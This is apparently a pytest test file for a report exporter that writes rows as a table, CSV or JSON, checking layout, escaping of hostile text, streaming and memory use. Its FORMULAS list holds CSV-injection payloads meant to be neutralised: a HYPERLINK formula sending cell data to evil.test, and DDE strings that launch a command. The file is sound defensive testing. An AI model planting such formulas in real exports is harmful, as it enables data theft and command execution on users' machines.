"""Rows as table, CSV and JSON: strangers' words are harmless in each, and nothing is gathered."""

import csv
import gc
import io
import json
import os
import sqlite3
import tracemalloc
import unicodedata
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from terrain.reports.domains import NODE_COLUMNS, Chosen, node_rows
from terrain.reports.exports import (
    MEASURED,
    WRITERS,
    Column,
    Row,
    write_csv,
    write_json,
    write_table,
)
from terrain.store import Policy
from terrain.store.queries import NodeQuery, open_terrain
from tests.reports.test_hostile import HOSTILE

COLUMNS = (
    Column("id", None, identifier=True),
    Column("name", "name"),
    Column("count", "count"),
    Column("text", "text"),
)


def written(form: str, *rows: Row) -> str:
    out = io.StringIO()
    WRITERS[form](COLUMNS, rows, out)
    return out.getvalue()


def test_a_table_is_padded_and_numbers_stand_to_the_right() -> None:
    shown = written("table", (1, "a.test", 5, "first"), (2, "long-name.test", 12_345, None))
    assert shown.splitlines() == [
        "name             count  text",
        "--------------  ------  -----",
        "a.test               5  first",
        "long-name.test  12,345",
    ]


@pytest.mark.parametrize("form", WRITERS)
def test_no_rows_are_no_error(form: str) -> None:
    shown = written(form)
    if form == "json":
        assert json.loads(shown) == []
    else:
        assert "name" in shown.splitlines()[0]
        assert "Traceback" not in shown


def test_csv_has_every_column_by_its_key() -> None:
    shown = written("csv", (1, "a.test", 5, 'a "quoted", text'), (2, "b.test", 0, None))
    assert list(csv.DictReader(io.StringIO(shown))) == [
        {"id": "1", "name": "a.test", "count": "5", "text": 'a "quoted", text'},
        {"id": "2", "name": "b.test", "count": "0", "text": ""},
    ]
    assert "\r" not in shown


def test_json_has_a_line_for_each_row_and_ids_as_strings() -> None:
    shown = written("json", (2**62 + 1, "a.test", 5, "é"), (2, "b.test", 0, None))
    assert json.loads(shown) == [
        {"id": str(2**62 + 1), "name": "a.test", "count": 5, "text": "é"},
        {"id": "2", "name": "b.test", "count": 0, "text": None},
    ]
    lines = shown.splitlines()
    assert (lines[0], lines[-1]) == ("[", "]")
    assert json.loads(lines[1].rstrip(","))["name"] == "a.test"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_one_harmless_line_in_a_table(text: str) -> None:
    lines = written("table", (1, "a.test", 5, text), (2, "b.test", 6, "next")).split("\n")
    assert len(lines) == 5  # header, rule, two rows, the end
    assert all(len(line) < 100 for line in lines)
    shown = "".join(lines)
    assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Cs"}]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("form", ["csv", "json"])
def test_hostile_text_has_no_control_characters_in_an_export(form: str, text: str) -> None:
    shown = written(form, (1, "a.test", 5, text))
    lines = shown.splitlines()
    assert len(lines) == (2 if form == "csv" else 3)
    assert not [c for line in lines for c in line if unicodedata.category(c) in {"Cc", "Cf", "Cs"}]


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_json_has_the_text_exactly(text: str) -> None:
    assert json.loads(written("json", (1, "a.test", 5, text)))[0]["text"] == text


FORMULAS = [
    '=HYPERLINK("https://evil.test?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_gives_a_spreadsheet_no_formula(formula: str) -> None:
    shown = written("csv", (1, formula, 5, formula))
    (row,) = csv.DictReader(io.StringIO(shown))
    for cell in (row["name"], row["text"]):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff20"))


@given(st.text(st.characters(codec="ascii", categories=["L", "N"]), min_size=1, max_size=20))
def test_csv_leaves_ordinary_text_alone(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(written("csv", (1, "a.test", 5, text))))
    assert row["text"] == text


@pytest.mark.parametrize("write", [write_table, write_csv, write_json])
def test_rows_are_written_as_they_come(write: object) -> None:
    """Never more rows are drawn before something is written than a table needs to be measured."""
    out = io.StringIO()
    ahead = 0

    def rows() -> Iterator[Row]:
        nonlocal ahead
        drawn = 0
        written_at = 0
        for number in range(5 * MEASURED):
            if out.tell() != written_at:
                written_at, drawn = out.tell(), 0
            drawn += 1
            ahead = max(ahead, drawn)
            yield number, f"host{number}.test", number, "text"

    write(COLUMNS, rows(), out)  # type: ignore[operator]
    assert ahead <= MEASURED + 1
    assert out.getvalue().count("host") == 5 * MEASURED


def test_memory_does_not_grow_with_the_terrain(own_database: Path, policy: Policy) -> None:
    def peak(hosts: range) -> int:
        """Add hosts, and export all there are."""
        with closing(sqlite3.connect(own_database)) as connection, connection:
            connection.row_factory = sqlite3.Row
            facts = dict(connection.execute("SELECT * FROM host LIMIT 1").fetchone())
            rows = [{**facts, "id": -n, "name": f"host-{n}.test"} for n in hosts]
            places = ", ".join(f":{column}" for column in facts)
            connection.executemany(f"INSERT INTO host VALUES ({places})", rows)
        gc.collect()
        tracemalloc.start()
        with open_terrain(own_database) as reader, Path(os.devnull).open("w") as out:
            found = node_rows(reader, policy, NodeQuery(sort="visits"), Chosen())
            write_csv(NODE_COLUMNS, found, out)
        _, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    # More than is remembered of hosts, so that those caches are full the first time.
    first = peak(range(1, 18_000))
    assert peak(range(18_000, 36_000)) < first + 500_000
